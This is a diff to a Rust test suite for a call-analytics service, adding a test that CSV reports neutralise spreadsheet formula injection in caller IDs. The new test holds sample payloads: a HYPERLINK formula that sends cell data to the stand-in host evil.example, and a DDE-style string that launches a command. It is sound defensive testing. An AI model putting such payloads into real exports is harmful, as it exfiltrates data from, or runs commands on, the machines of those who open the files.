@@ -12,6 +12,7 @@ both_backends!(
     analytics_equal_a_recount_of_random_calls,
     analytics_validation_and_publisher_scope,
     publisher_report_json_and_csv,
+    report_csv_cells_are_neutralised,
 );
 
 const NUMBER_A: &str = "+17175550100";
@@ -461,8 +462,9 @@ async fn publisher_report_json_and_csv(app: TestApp) {
     let lines: Vec<&str> = csv.lines().collect();
     assert_eq!(lines[0], "call_id,number,started_at,caller,duration_secs,qualified,payout_micros,currency");
     assert_eq!(lines.len(), 3, "{csv}");
-    assert!(lines[1].contains(",+XXXXXXX0001,130,true,12500000,USD"), "{csv}");
-    assert!(lines[2].contains(",+XXXXXXX0002,20,false,0,USD"), "{csv}");
+    // A masked number is no number to a spreadsheet (`+XXX…` would run as a formula): quoted.
+    assert!(lines[1].contains(",'+XXXXXXX0001,130,true,12500000,USD"), "{csv}");
+    assert!(lines[2].contains(",'+XXXXXXX0002,20,false,0,USD"), "{csv}");
     // A campaign that allows full numbers shows them.
     app.admin("PATCH", &format!("/api/campaigns/{}", s.campaign), Some(json!({"show_full_caller": true}))).await;
     let (_, page) = app.call("GET", &path, Some(&pub_a), None).await;
@@ -470,4 +472,28 @@ async fn publisher_report_json_and_csv(app: TestApp) {
     // Range filter.
     let (_, page) = app.call("GET", &format!("{path}?from=2000-01-01T00:00:00Z&to=2000-01-02T00:00:00Z"), Some(&pub_a), None).await;
     assert_eq!(page["total"], 0);
+}
+
+/// A caller ID is whatever the carrier sends (SIP calls carry any text): a cell a spreadsheet
+/// would run as a formula gets a leading `'` in the CSV report; a phone number is left alone.
+async fn report_csv_cells_are_neutralised(app: TestApp) {
+    let s = setup(&app).await;
+    app.admin("PATCH", &format!("/api/campaigns/{}", s.campaign), Some(json!({"show_full_caller": true}))).await;
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
+    answered(&app, "CA1", "+15551234567", NUMBER_A, 120).await;
+    answered(&app, "CA2", formula, NUMBER_A, 120).await;
+    answered(&app, "CA3", "@SUM(1+1)*cmd|' /C calc'!A0", NUMBER_A, 120).await;
+    let pub_a = make_user(&app, "publisher", Some(s.publishers[0])).await;
+    let path = format!("/api/publishers/{}/report", s.publishers[0]);
+    let (_, page) = app.call("GET", &path, Some(&pub_a), None).await;
+    assert_eq!(page["items"][1]["caller"], formula, "JSON carries the value as it is: {page}");
+    let res = app.client.get(app.url(&format!("{path}?format=csv"))).bearer_auth(&pub_a).send().await.expect("csv");
+    assert_eq!(res.status(), 200);
+    let csv = res.text().await.expect("body");
+    let lines: Vec<&str> = csv.lines().collect();
+    assert_eq!(lines.len(), 4, "{csv}");
+    assert!(lines[1].contains(",+15551234567,130,true,"), "a phone number is left alone: {csv}");
+    assert!(lines[2].contains(r#","'=HYPERLINK(""http://evil.example/?""&A1,""click"")",130,true,"#), "{csv}");
+    assert!(lines[3].contains(",'@SUM(1+1)*cmd|' /C calc'!A0,130,true,"), "{csv}");
+    assert!(csv.lines().skip(1).all(|l| !l.contains(",=") && !l.contains(",@") && !l.contains(",\"=")), "{csv}");
 }
